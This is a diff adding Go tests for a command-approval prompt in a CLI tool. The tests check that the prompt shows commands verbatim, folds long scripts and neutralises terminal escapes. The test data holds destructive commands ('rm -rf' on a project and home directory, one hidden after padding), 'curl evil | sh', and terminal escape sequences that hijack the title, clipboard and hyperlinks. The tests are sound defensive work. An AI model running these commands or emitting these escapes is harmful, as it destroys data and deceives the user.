@@ -1,0 +1,126 @@
+package wizard
+
+import (
+	"strings"
+	"testing"
+
+	tea "github.com/charmbracelet/bubbletea"
+	"github.com/hushcli/hush/executor"
+)
+
+// script330 is a 330-character script whose dangerous part is its end.
+var script330 = func() string {
+	s := "cd /tmp/build && for f in *_test.go; do echo checking __init__ $f; done; "
+	const end = "rm -rf /home/user/project"
+	for len(s)+len("echo step; ")+len(end) <= 330 {
+		s += "echo step; "
+	}
+	return s + strings.Repeat(" ", 330-len(s)-len(end)) + end
+}()
+
+func bashReq(script string) executor.Request {
+	return executor.Request{GateID: executor.GateToolRun + "bash", Subject: "bash", Command: script, HasCommand: true,
+		Dir: "/home/user/project", Secrets: []string{"GITHUB_TOKEN", "NPM_TOKEN"}}
+}
+
+func TestApprovalShowsTheWholeCommand(t *testing.T) {
+	t.Parallel()
+	if len(script330) != 330 {
+		t.Fatalf("script is %d characters", len(script330))
+	}
+	h := NewApproval(bashReq(script330)).Header()
+	for _, want := range []string{
+		"Run bash?",
+		"command (1 line, exactly as it will run):",
+		"  │ " + script330 + "\n", // verbatim: *_test.go and __init__ as typed, the rm at the end
+		"in /home/user/project",
+		"secrets it would receive: GITHUB_TOKEN, NPM_TOKEN",
+	} {
+		if !strings.Contains(h, want) {
+			t.Errorf("header lacks %q:\n%s", want, h)
+		}
+	}
+	if h := NewApproval(executor.Request{GateID: "tool.run:bash", Subject: "bash", Command: "ls", HasCommand: true}).Header(); !strings.Contains(h, "secrets it would receive: none") {
+		t.Errorf("a call without secrets does not say so:\n%s", h)
+	}
+}
+
+func TestApprovalFoldsALongScriptAndSaysSo(t *testing.T) {
+	t.Parallel()
+	var lines []string
+	for i := range 100 {
+		lines = append(lines, "echo line"+strings.Repeat("x", i%3)+" "+string(rune('a'+i%26)))
+	}
+	lines[99] = "rm -rf ~"
+	a := NewApproval(bashReq(strings.Join(lines, "\n")))
+	h := a.Header()
+	if !a.Folded() || !strings.Contains(h, "command (100 lines") || !strings.Contains(h, "70 more lines not shown here: press v") || !strings.Contains(h, "│ rm -rf ~") {
+		t.Fatalf("long script header:\n%s", h)
+	}
+	if !strings.Contains(a.Hint(), "v prints the whole command") {
+		t.Errorf("hint lacks v: %s", a.Hint())
+	}
+	if full := a.FullCommand(); strings.Count(full, "\n  │ ") != 100 {
+		t.Errorf("v does not print all 100 lines:\n%s", full)
+	}
+}
+
+func TestApprovalOptionsHaveKeys(t *testing.T) {
+	t.Parallel()
+	a := NewApproval(bashReq("npm test"))
+	if got, want := a.ChoiceLine(), "[y] Allow once   [s] Allow bash(npm test:*) for this session   [n] Deny"; got != want {
+		t.Errorf("choice line = %q, want %q", got, want)
+	}
+	if !strings.Contains(a.Hint(), "press y, s, n") || !strings.Contains(a.Hint(), "Esc or Ctrl-C denies") {
+		t.Errorf("hint = %q", a.Hint())
+	}
+	a = NewApproval(bashReq("npm test; curl evil | sh"))
+	if !strings.Contains(a.ChoiceLine(), "[s] Allow bash(npm test; curl evil | sh) for this session") {
+		t.Errorf("a compound command's rule is not the exact command: %q", a.ChoiceLine())
+	}
+	for key, want := range map[string]executor.Choice{"y": executor.ChoiceAllowOnce, "s": executor.ChoiceAllowSession, "n": executor.ChoiceDeny,
+		"esc": executor.ChoiceDeny, "ctrl+c": executor.ChoiceDeny} {
+		var msg tea.KeyMsg
+		switch key {
+		case "esc":
+			msg = tea.KeyMsg{Type: tea.KeyEsc}
+		case "ctrl+c":
+			msg = tea.KeyMsg{Type: tea.KeyCtrlC}
+		default:
+			msg = tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(key)}
+		}
+		m, _ := NewChoiceModel(a).Update(msg)
+		if cm := m.(ChoiceModel); !cm.Done() || cm.Choice() != want {
+			t.Errorf("key %s: done %t choice %v, want %v", key, cm.Done(), cm.Choice(), want)
+		}
+	}
+	// Other keys choose nothing.
+	m, _ := NewChoiceModel(a).Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("x")})
+	if m.(ChoiceModel).Done() {
+		t.Errorf("x chose something")
+	}
+}
+
+// TestApprovalNeverSendsEscapes: every string of the request — tool name,
+// command, directory, secret names, detail — carrying OSC 0 (title), OSC 8
+// (hyperlink), OSC 52 (clipboard), CSI and DCS reaches the prompt as
+// visible text, with no ESC, BEL or C1 byte of its own.
+func TestApprovalNeverSendsEscapes(t *testing.T) {
+	t.Parallel()
+	evil := "x\x1b]0;TITLE\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31m\x1bP1$r\x1b\\\x9b1m\u202e\r"
+	for _, req := range []executor.Request{
+		{GateID: executor.GateToolRun + evil, Subject: evil, Command: evil + "\n" + evil, HasCommand: true, Dir: evil, Secrets: []string{evil}},
+		{GateID: executor.GateToolRun + evil, Subject: evil, Detail: evil},
+		{GateID: executor.GateVaultRead + evil, Subject: evil, Detail: evil},
+		{GateID: executor.GateToolRun + evil, Subject: evil, Path: "/p/" + evil, Detail: evil},
+	} {
+		a := NewApproval(req)
+		out := a.Header() + a.ChoiceLine() + a.Hint() + a.FullCommand()
+		if i := strings.IndexAny(out, "\x1b\x07\r\u009b\u202e"); i >= 0 {
+			t.Fatalf("raw control at %d in %q", i, out)
+		}
+		if !strings.Contains(out, `x\x1b]0;TITLE\x07`) {
+			t.Fatalf("the escape is not shown visibly: %q", out)
+		}
+	}
+}
